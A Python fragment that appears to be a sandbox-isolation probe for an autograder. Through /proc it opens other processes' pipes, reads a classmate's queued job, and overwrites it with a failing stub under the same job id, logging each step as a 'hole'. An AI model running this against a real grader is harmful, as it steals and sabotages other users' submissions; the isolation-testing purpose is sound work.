# Steal the classmate queued behind us: while ours runs, the worker's channel from the grader holds
# the next submission. Open the descriptors of this run's processes through /proc (every process,
# where a private PID namespace shows only the sandbox's own), read the job waiting in any of them,
# and write it back with the same job id but our own source in place of the classmate's: a stub
# that passes nothing. Whatever is read or written is a hole. The base is the stub.
import json as _json
import struct as _struct

_HEADER = _struct.Struct("!4sII")


def _forged_job(stolen):
    """The stolen job's own header, with a failing source in place of its cells; None if `stolen`
    does not start with a job."""
    try:
        magic, json_len, _ = _HEADER.unpack_from(stolen)
        head = _json.loads(stolen[_HEADER.size:_HEADER.size + json_len])
    except Exception:
        return None
    if magic != b"QKV1" or not isinstance(head, dict) or "job" not in head:
        return None
    cells = _json.dumps(["def softmax_rows(s):\n    raise SystemExit\n"]).encode()
    data = _json.dumps(head).encode()
    return _HEADER.pack(magic, len(data), len(cells)) + data + cells


_me = _os.getpid()
_seen = _pids() if _private_pid_namespace() else _run_tree()
for _pid in [pid for pid in _ancestors() if pid in _seen] + [pid for pid in _seen if pid not in _ancestors()]:
    if _pid == _me or _never_touch(_pid):
        continue
    try:
        _fds = _os.listdir("/proc/%d/fd" % _pid)
    except Exception:
        continue
    for _fd in _fds:
        try:
            _target = _os.readlink("/proc/%d/fd/%s" % (_pid, _fd))
        except Exception:
            continue
        if not _target.startswith("pipe:"):  # only channels: never a file of anyone's
            continue
        try:
            _handle = _os.open("/proc/%d/fd/%s" % (_pid, _fd), _os.O_RDWR | _os.O_NONBLOCK)
        except Exception:
            continue
        _hole("opened pipe %s of process %d (%s)" % (_fd, _pid, _cmdline(_pid)[:40]))
        try:
            _stolen = _os.read(_handle, 1 << 20)
        except Exception:
            _stolen = b""
        if _stolen:
            _hole("read %d bytes waiting in process %d's pipe" % (len(_stolen), _pid))
            _forged = _forged_job(_stolen)
            try:
                if _forged is not None and _os.write(_handle, _forged):
                    _hole("replaced the job waiting in process %d's pipe" % _pid)
            except Exception:
                pass
        _os.close(_handle)
